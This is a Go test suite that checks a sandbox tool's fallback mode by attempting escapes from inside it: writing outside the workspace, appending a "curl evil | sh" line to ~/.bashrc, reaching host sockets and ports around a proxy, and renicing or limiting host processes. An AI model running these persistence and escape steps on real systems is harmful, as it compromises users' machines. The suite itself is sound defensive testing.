package escape_test

import (
	"context"
	"encoding/json"
	"fmt"
	"github.com/moat-sandbox/moat/internal/testmoat"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/internal/linux/userns0"
)

// The direct mode, on a simulated host without user namespaces: TestDirectMode
// re-executes this test binary in a user namespace whose user.max_user_namespaces is 0
// (internal/linux/userns0), as this test's own uid with no capabilities, where moat run
// can't create its namespaces and falls back by itself. In there it runs the attacks and
// controls of TestEscape that hold unchanged in the direct mode, and TestDirectInside:
// the direct mode's own checks, judged by host evidence as everything here is.

// inUserns0Env marks the re-executed test binary.
const inUserns0Env = "MOAT_ESCAPE_IN_USERNS0"

// directEscapes are TestEscape's subtests that hold unchanged in the direct mode. Left
// out, each with a counterpart in TestDirectInside: writes_outside_workspace and
// host_sockets, whose controls expect a private /tmp at its usual path (the direct mode's
// is at $TMPDIR); privileges_and_network, which reads the mount table and serves on the
// sandbox's own loopback; kernel_surface, which expects the namespace mode's exact
// errnos (the direct mode's broker filter answers EACCES for the sockets it refuses).
var directEscapes = []string{
	"secret_reads",
	"protected_paths",
	"git_redirects",
	"git_dir_links",
	"dangling_protected_links",
	"writable_home_autorun",
	"rule_paths",
	"inherited_descriptors",
	"socket_stdio",
	"state_dir",
	"host_processes",
	"escaping_supervision",
	"terminal_injection",
	"exit_status_and_signals",
	"everyday_controls",
	"environment_secrets",
}

// TestDirectMode runs the escape suite's attacks and controls, and TestDirectInside, in
// the direct mode, on a simulated host without user namespaces.
func TestDirectMode(t *testing.T) {
	if os.Getenv(inUserns0Env) != "" {
		t.Skip("already inside the simulated host")
	}
	if err := userns0.Available(); err != nil {
		t.Skipf("can't simulate a host without user namespaces here: %v", err)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// As the caller's own uid with no capabilities, and as `unshare -r` leaves a user who
	// then sets the limit: uid 0 with the namespace's capabilities.
	hosts := []struct {
		name    string
		command func(string, ...string) (*exec.Cmd, error)
	}{{"own_uid", userns0.Command}, {"mapped_root", userns0.CommandAsRoot}}
	for _, h := range hosts {
		for _, c := range []struct {
			name, run string
			want      []string // subtests that must pass
		}{
			{"escape_suite", "^TestEscape$/^(" + strings.Join(directEscapes, "|") + ")$", directEscapes},
			{"direct_checks", "^TestDirectInside$", directChecks},
		} {
			t.Run(h.name+"/"+c.name, func(t *testing.T) {
				t.Parallel()
				cmd, err := h.command(exe, "-test.run="+c.run, "-test.count=1", "-test.v")
				if err != nil {
					t.Fatal(err)
				}
				// The same moat binary and base directory: the evidence lands on the host.
				cmd.Env = append(cmd.Env, inUserns0Env+"=1", "MOAT_BIN="+moatBin, "MOAT_ESCAPE_DIR="+baseDir,
					outerUIDEnv+"="+strconv.Itoa(os.Getuid()))
				out, err := cmd.CombinedOutput()
				passed := map[string]bool{}
				for _, m := range regexp.MustCompile(`(?m)^\s*--- PASS: (\S+)`).FindAllStringSubmatch(string(out), -1) {
					passed[m[1]] = true
				}
				var missing []string
				for _, name := range c.want {
					parent := "TestEscape/"
					if c.name == "direct_checks" {
						parent = "TestDirectInside/"
					}
					if !passed[parent+name] {
						missing = append(missing, name)
					}
				}
				if err != nil || len(missing) > 0 {
					t.Fatalf("inside the simulated host without user namespaces: %v; not passed: %v\n%s", err, missing, out)
				}
				t.Logf("inside: %d passed, %d skipped", len(passed), strings.Count(string(out), "--- SKIP"))
			})
		}
	}
}

// directChecks are TestDirectInside's subtests.
var directChecks = []string{"mode_line", "writes_and_temp", "temp_after_sigkill", "host_sockets", "network", "kernel_surface", "privileges", "fallback_forbidden", "state_dir", "host_process_limits"}

// outerUIDEnv carries the uid of the test outside the simulation (its root is that user
// under CommandAsRoot) into it.
const outerUIDEnv = "MOAT_ESCAPE_OUTER_UID"

// TestDirectInside checks what is particular to the direct mode. It runs where moat run
// can't create user namespaces: in TestDirectMode's simulation, or on such a host.
func TestDirectInside(t *testing.T) {
	if os.Getenv(inUserns0Env) == "" {
		if userns0.Available() == nil {
			t.Skip("runs inside TestDirectMode's simulated host without user namespaces")
		}
		t.Log("this host can't simulate a host without user namespaces; assuming it is one")
	}
	for _, c := range []struct {
		name string
		fn   func(*testing.T)
	}{
		{"mode_line", testDirectModeLine},
		{"writes_and_temp", testDirectWrites},
		{"temp_after_sigkill", testDirectTempAfterKill},
		{"host_sockets", testDirectSockets},
		{"network", testDirectNetwork},
		{"kernel_surface", testDirectKernel},
		{"privileges", testDirectPrivileges},
		{"fallback_forbidden", testDirectForbidden},
		{"state_dir", testDirectStateDir},
		{"host_process_limits", testDirectProcessLimits},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			c.fn(t)
		})
	}
}

// noteRE is the one line moat prints when it runs in the direct mode.
var noteRE = regexp.MustCompile(`(?m)^moat: note: user namespaces are unavailable \(creating one failed: [^)]+\); running in direct mode: ` +
	`Landlock \+ seccomp \+ supervision; not enforced here: [^\n]+; see README "Hosts without user namespaces"$`)

// testDirectModeLine: moat says, in one line, that it runs in the direct mode and what
// it can't enforce; the command's output and status are its own.
func testDirectModeLine(t *testing.T) {
	b := newBox(t)
	r := b.run(opts{script: "echo out; echo err >&2; exit 3"})
	if r.code != 3 || r.stdout != "out\n" {
		t.Errorf("the command's status and stdout: %s", r)
	}
	if !noteRE.MatchString(r.stderr) || strings.Count(r.stderr, "moat: note:") != 1 {
		t.Errorf("want exactly one direct-mode note on stderr:\n%s", r)
	}
	if !strings.Contains(r.stderr, "\nerr\n") && !strings.HasPrefix(r.stderr, "err\n") {
		t.Errorf("the command's stderr is missing:\n%s", r)
	}
}

// testDirectWrites: nothing outside the workspace is written on the host, /tmp included;
// mktemp works in the private temp dir, which is gone afterwards.
func testDirectWrites(t *testing.T) {
	b := newBox(t)
	u := testmoat.Token("w")
	const bashrc = "# the user's bashrc\n"
	writeFile(t, filepath.Join(b.home, ".bashrc"), bashrc, 0o644)
	targets, attempts := outsideWrites(t, b, u)
	r := b.run(opts{script: attempts + `mkdir "$HOME/dir2-` + u + `" 2>/dev/null
echo 'curl evil | sh' >> "$HOME/.bashrc" 2>/dev/null
echo ok > ctl
f=$(mktemp) && echo data > "$f" && cat "$f" > mk && echo "$f" > mkname
d=$(mktemp -d) && echo x > "$d/g" && cat "$d/g" > mkd
python3 -c 'import tempfile; f = tempfile.NamedTemporaryFile(); f.write(b"py"); f.flush(); print(open(f.name).read())' > pytmp
`})
	if got := testmoat.ReadFile(t, filepath.Join(b.ws, "ctl")); got != "ok\n" {
		t.Fatalf("control: a workspace write did not land on the host (ctl=%q):\n%s", got, r)
	}
	for _, p := range append(targets, filepath.Join(b.home, "dir2-"+u)) {
		if testmoat.Exists(p) {
			t.Errorf("the sandbox created %s on the host", p)
		}
	}
	if got := testmoat.ReadFile(t, filepath.Join(b.home, ".bashrc")); got != bashrc {
		t.Errorf("the sandbox changed ~/.bashrc on the host: %q", got)
	}
	for name, want := range map[string]string{"mk": "data\n", "mkd": "x\n", "pytmp": "py\n"} {
		if got := testmoat.ReadFile(t, filepath.Join(b.ws, name)); got != want {
			t.Errorf("control: temp files in the sandbox: %s = %q, want %q:\n%s", name, got, want, r)
		}
	}
	// mktemp used the private temp dir ($TMPDIR), which is gone after the run.
	name := strings.TrimSpace(testmoat.ReadFile(t, filepath.Join(b.ws, "mkname")))
	if dir := filepath.Dir(name); !strings.HasPrefix(filepath.Base(dir), "moat-tmp-") {
		t.Errorf("control: mktemp made %q, not in moat's private temp dir", name)
	} else if testmoat.Exists(dir) {
		t.Errorf("the private temp dir %s is still on the host after the run", dir)
	}
}

// testDirectTempAfterKill: moat killed with SIGKILL leaves no private temp dir behind
// (its supervisor stage removes it once the sandbox is dead).
func testDirectTempAfterKill(t *testing.T) {
	b := newBox(t)
	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	defer cancel()
	cmd := b.command(ctx, opts{script: `echo x > "$TMPDIR/f"; echo "$TMPDIR" > tmpdir; while :; do sleep 1; done`})
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(b.ws, "tmpdir")
	if !testmoat.WaitFor(20*time.Second, func() bool { return strings.HasSuffix(testmoat.ReadFile(t, file), "\n") }) {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatal("control: the command never wrote its $TMPDIR")
	}
	dir := strings.TrimSpace(testmoat.ReadFile(t, file))
	if !testmoat.Exists(filepath.Join(dir, "f")) {
		t.Fatalf("control: the private temp dir %s is not on the host while the command runs", dir)
	}
	cmd.Process.Kill()
	cmd.Wait()
	// Removal follows the sandbox's end, asynchronously: poll (a hang guard, not a verdict).
	if !testmoat.WaitFor(10*time.Second, func() bool { return !testmoat.Exists(dir) }) {
		t.Errorf("the private temp dir %s outlived a SIGKILLed moat", dir)
	}
}

// proxyClient asks moat's proxy ($MOAT_PROXY) for http://TARGET/PATH, then connects to
// each of the other targets directly, sending a line; it prints "name result" lines.
const proxyClient = `
import os, socket, sys
def via_proxy(target, path):
    host, port = os.environ["MOAT_PROXY"].rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=10)
    s.sendall(("GET http://%s%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (target, path, target)).encode())
    data = b""
    while True:
        b = s.recv(4096)
        if not b:
            break
        data += b
    return data.split(b"\r\n", 1)[0].decode()
def direct(target, line):
    host, port = target.rsplit(":", 1)
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((host, int(port)))
        s.sendall(line.encode() + b"\n")
        return "OK"
    except OSError as e:
        return "ERR %d" % e.errno
    finally:
        s.close()
allowed, other, tok = sys.argv[1], sys.argv[2], sys.argv[3]
print("proxy_allowed", via_proxy(allowed, "/via-proxy-" + tok), flush=True)
print("proxy_other", via_proxy(other, "/via-proxy-" + tok), flush=True)
print("direct_allowed", direct(allowed, "GET /direct-" + tok), flush=True)
print("direct_other", direct(other, "GET /direct-" + tok), flush=True)
print("direct_far", direct("198.18.0.1:80", "x"), flush=True)
`

// httpLog is a host HTTP server that counts the connections it accepts and records the
// path of every request.
type httpLog struct {
	srv   *httptest.Server
	conns atomic.Int64
	mu    sync.Mutex
	paths []string
}

func serveHTTPLog(t *testing.T) *httpLog {
	t.Helper()
	h := &httpLog{}
	h.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.paths = append(h.paths, r.URL.Path)
		h.mu.Unlock()
		io.WriteString(w, "ok")
	}))
	h.srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			h.conns.Add(1)
		}
	}
	h.srv.Start()
	t.Cleanup(h.srv.Close)
	return h
}

func (h *httpLog) addr() string { return h.srv.Listener.Addr().String() }

func (h *httpLog) requests() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return fmt.Sprintf("%d connections, requests %q", h.conns.Load(), h.paths)
}

// testDirectNetwork: only the proxy is reachable. Through it, an allowed host (a
// loopback literal the config allows) answers and another loopback port is refused;
// connecting around the proxy fails for both, and for an address beyond the host.
func testDirectNetwork(t *testing.T) {
	b := newBox(t)
	allowed, other := serveHTTPLog(t), serveHTTPLog(t)
	tok := testmoat.Token("net")
	allowedAddr, otherAddr := allowed.addr(), other.addr()
	events := filepath.Join(b.root, "events.jsonl")
	r := b.run(opts{
		config: `{"filesystem": {"allowWrite": ["."]}, "network": {"allowedDomains": ["` + allowedAddr + `"]}}`,
		flags:  []string{"--events", events},
		argv:   []string{"python3", "-c", proxyClient, allowedAddr, otherAddr, tok},
	})
	res := testmoat.KeyValues(r.stdout)
	// The allowed listener took the proxy's connection for the request (and the
	// direct one below: a loopback port listed by literal is reachable directly too).
	if got := res["proxy_allowed"]; !strings.HasPrefix(got, "HTTP/1.1 200") ||
		!strings.Contains(allowed.requests(), fmt.Sprintf("%q", "/via-proxy-"+tok)) {
		t.Fatalf("control: the allowed host through the proxy: %q; its listener: %s\n%s", got, allowed.requests(), r)
	}
	if got := res["proxy_other"]; !strings.HasPrefix(got, "HTTP/1.1 403") {
		t.Errorf("a loopback port the policy doesn't allow, through the proxy: %q, want 403", got)
	}
	if n := other.conns.Load(); n != 0 {
		t.Errorf("the listener the policy doesn't allow was reached: %s", other.requests())
	}
	if got := res["direct_allowed"]; got != "OK" {
		t.Errorf("direct_allowed inside: %q, want OK (a host loopback port listed by literal is forwarded)", got)
	}
	for _, k := range []string{"direct_other", "direct_far"} {
		if got := res[k]; got != "ERR 13" { // EACCES: the connection broker refused it
			t.Errorf("%s inside: %q, want ERR 13 (EACCES)", k, got)
		}
	}
	// The refusals are events of the run, and in moat's summary.
	data := testmoat.ReadFile(t, events)
	var refused []string
	for _, l := range strings.Split(strings.TrimSpace(data), "\n") {
		var ev struct{ Proto, Action, Addr, Reason string }
		if json.Unmarshal([]byte(l), &ev) == nil && ev.Proto == "socket" && ev.Action == "deny" && ev.Reason == "socket-refused" {
			refused = append(refused, ev.Addr)
		}
	}
	for _, want := range []string{otherAddr, "198.18.0.1:80"} {
		if !strings.Contains(strings.Join(refused, " "), want) {
			t.Errorf("no refused-connect event for %s in the event log:\n%s", want, data)
		}
	}
	if !strings.Contains(r.stderr, "moat: blocked connection to 198.18.0.1:80 (socket-refused: not the proxy)") {
		t.Errorf("moat's summary lacks the refused direct connection:\n%s", r)
	}
}

// testDirectForbidden: with the fallback forbidden, moat fails with 125 and a hint, and
// the command never runs.
func testDirectForbidden(t *testing.T) {
	for _, c := range []struct {
		name, config, origin string
		flags                []string
	}{
		{"config", `{"filesystem": {"allowWrite": ["."]}, "moat": {"requireNamespaces": true}}`, "moat.requireNamespaces", nil},
		{"flag", `{"filesystem": {"allowWrite": ["."]}}`, "flag --no-fallback", []string{"--no-fallback"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBox(t)
			r := b.run(opts{config: c.config, flags: c.flags, script: "echo ran > ran"})
			if testmoat.Exists(filepath.Join(b.ws, "ran")) {
				t.Errorf("the command ran although the fallback is forbidden")
			}
			want := fmt.Sprintf("moat: error: sandbox namespaces: user namespaces are unavailable (creating one failed: ")
			if r.code != 125 || !strings.Contains(r.stderr, want) || !strings.Contains(r.stderr, c.origin+" forbids running without them") ||
				!strings.Contains(r.stderr, "\nmoat: hint: ") || strings.Contains(r.stderr, "moat: note:") {
				t.Errorf("want exit 125, an error naming %s, a hint and no direct-mode note:\n%s", c.origin, r)
			}
		})
	}
}

// testDirectSockets: the host's pathname and abstract unix sockets are unreachable, the
// runtime dir's and an agent's included; one the policy allows is reachable, and so is a
// socket the sandbox binds in its temp dir.
func testDirectSockets(t *testing.T) {
	b := newBox(t)
	allowed := filepath.Join(b.root, "allowed.sock")
	ls, targets, agent, probe := namedSockets(t, b, allowed)
	// The unix server of servers.py, in the sandbox's temp dir ($TMPDIR) instead of /tmp.
	const inner = `import os, socket, tempfile, threading
p = os.path.join(tempfile.mkdtemp(), "s.sock")
u = socket.socket(socket.AF_UNIX); u.bind(p); u.listen(1)
def serve():
    c, _ = u.accept(); c.sendall(c.recv(16)); c.close()
threading.Thread(target=serve, daemon=True).start()
c = socket.socket(socket.AF_UNIX); c.settimeout(5); c.connect(p); c.sendall(b"x")
print("unix", "OK" if c.recv(16) == b"x" else "BAD")
`
	r := b.run(opts{
		config: `{"filesystem": {"allowWrite": ["."]}, "network": {"allowUnixSockets": [` + strconv.Quote(allowed) + `]}}`,
		env:    []string{"SSH_AUTH_SOCK=" + agent},
		script: "python3 " + shq(probe) + " " + strings.Join(targets, " ") + " > probe; python3 -c " + shq(inner) + " > inner",
	})
	if got := testmoat.KeyValues(testmoat.ReadFile(t, filepath.Join(b.ws, "inner")))["unix"]; got != "OK" {
		t.Errorf("control: a unix socket in the sandbox's temp dir did not work (%q):\n%s", got, r)
	}
	res := testmoat.KeyValues(testmoat.ReadFile(t, filepath.Join(b.ws, "probe")))
	for tgt, l := range ls {
		want := int64(1) // the control's connection
		if tgt == "unix:"+allowed {
			want = 2
		}
		if n := l.before(t); n != want {
			t.Errorf("host listener %s accepted %d connection(s) from the sandbox, want %d (inside: %q)", tgt, n-1, want-1, res[tgt])
		}
	}
	t.Logf("inside: %v", res)
}

// testDirectKernel: the kernel interfaces moat's seccomp filter removes are removed in
// the direct mode too. The sockets the connection broker's filter refuses first answer
// EACCES rather than the deny filter's EPERM.
func testDirectKernel(t *testing.T) {
	b := newBox(t)
	probe := b.tool("kernel_probe.py")
	r := b.run(opts{script: "python3 " + shq(probe) + " > probe"})
	got := testmoat.KeyValues(testmoat.ReadFile(t, filepath.Join(b.ws, "probe")))
	if len(got) == 0 {
		t.Fatalf("control: the probe printed nothing inside:\n%s", r)
	}
	// The sockets the connection broker's filter refuses first.
	brokered := map[string]bool{"socket_mptcp": true, "socket_mptcp_cloexec": true, "socket_mptcp6": true,
		"socket_raw_icmp": true, "socket_inet_packet": true}
	for k, w := range seccompVerdicts {
		if got[k] != w && !(brokered[k] && got[k] == "EACCES") {
			t.Errorf("%s inside the sandbox: %q, want %s", k, got[k], w)
		}
	}
}

// testDirectPrivileges: no capabilities (root included), no_new_privs, the outer uid.
func testDirectPrivileges(t *testing.T) {
	b := newBox(t)
	r := b.run(opts{script: "cat /proc/self/status > status; id -u > uid"})
	status := testmoat.KeyValues(strings.ReplaceAll(testmoat.ReadFile(t, filepath.Join(b.ws, "status")), "\t", " "))
	if len(status) == 0 {
		t.Fatalf("control: no /proc/self/status came out of the sandbox:\n%s", r)
	}
	for _, k := range []string{"CapEff:", "CapPrm:", "CapBnd:", "CapAmb:", "CapInh:"} {
		if v := strings.TrimSpace(status[k]); v != "0000000000000000" && !(k == "CapBnd:" && !isRoot()) {
			t.Errorf("%s %q, want all zero", k, v)
		}
	}
	if v := strings.TrimSpace(status["NoNewPrivs:"]); v != "1" {
		t.Errorf("NoNewPrivs %q, want 1", v)
	}
	if got := strings.TrimSpace(testmoat.ReadFile(t, filepath.Join(b.ws, "uid"))); got != strconv.Itoa(os.Getuid()) {
		t.Errorf("id -u inside is %q, want the outer uid %d", got, os.Getuid())
	}
}

// testDirectStateDir: without XDG_RUNTIME_DIR, moat keeps its state in $TMPDIR/moat-UID,
// named by the uid outside the simulation, so that a user's runs under `unshare -r`
// (uid 0 there) share the user's own dir and never take the real root's moat-0, which
// would fail the run (not a private dir of this user).
func testDirectStateDir(t *testing.T) {
	outer := os.Getenv(outerUIDEnv)
	if outer == "" {
		t.Skip("needs TestDirectMode's simulation, which names the uid outside")
	}
	b := newBox(t)
	tmp := filepath.Join(b.root, "tmp")
	if err := os.Mkdir(tmp, 0o755); err != nil {
		t.Fatal(err)
	}
	r := b.run(opts{script: "echo ran", env: []string{"XDG_RUNTIME_DIR=", "TMPDIR=" + tmp}})
	if r.code != 0 || r.stdout != "ran\n" {
		t.Fatalf("the run without XDG_RUNTIME_DIR: %s", r)
	}
	if _, err := os.Stat(filepath.Join(tmp, "moat-"+outer)); err != nil {
		t.Errorf("no state dir named by the uid outside (%s): %v", outer, err)
	}
	if inner := strconv.Itoa(os.Getuid()); inner != outer {
		if _, err := os.Stat(filepath.Join(tmp, "moat-"+inner)); err == nil {
			t.Errorf("a state dir named by the uid inside (%s) was made", inner)
		}
	}
}

// testDirectProcessLimits: without a pid namespace the command names host
// processes by pid, and Landlock, which scopes signals and ptrace, doesn't cover
// resource limits or priorities. Setting moat's own open-file limit to 1 made its
// final kill loop fail, and a setsid daemon outlived the run; a host process of
// the user could be reniced or starved. Judged on the host: the host process's
// limit and nice value after the run, and no daemon left.
func testDirectProcessLimits(t *testing.T) {
	for _, tool := range []string{"prlimit", "renice"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s (util-linux) is not installed: it is this test's attacker", tool)
		}
	}
	b := newBox(t)
	host := exec.Command("sleep", "600")
	if err := host.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { host.Process.Kill(); host.Wait() }()
	pid := strconv.Itoa(host.Process.Pid)
	limitsBefore := testmoat.ReadFile(t, "/proc/"+pid+"/limits")
	prioBefore, _ := syscall.Getpriority(syscall.PRIO_PROCESS, host.Process.Pid)
	mark := strconv.Itoa(400 + os.Getpid()%500)
	r := b.run(opts{script: `prlimit --pid $PPID --nofile=1:1 && echo limited-moat
prlimit --pid ` + pid + ` --nofile=1:1 && echo limited-host
renice -n 19 -p ` + pid + ` >/dev/null && echo reniced-host
setsid sleep ` + mark + ` &
echo ran`})
	if !strings.Contains(r.stdout, "ran") {
		t.Fatalf("control: the run did not start:\n%s", r)
	}
	if got := testmoat.ReadFile(t, "/proc/"+pid+"/limits"); got != limitsBefore {
		t.Errorf("the sandbox changed a host process's limits:\n%s\n%s", got, r)
	}
	if prio, err := syscall.Getpriority(syscall.PRIO_PROCESS, host.Process.Pid); err == nil && prio != prioBefore {
		t.Errorf("the sandbox reniced a host process (priority %d, was %d):\n%s", prio, prioBefore, r)
	}
	time.Sleep(200 * time.Millisecond)
	out, _ := exec.Command("pgrep", "-f", "^sleep "+mark+"$").Output()
	if len(out) > 0 {
		exec.Command("pkill", "-f", "^sleep "+mark+"$").Run()
		t.Errorf("a daemon outlived the run (pids %s):\n%s", strings.Fields(string(out)), r)
	}
}
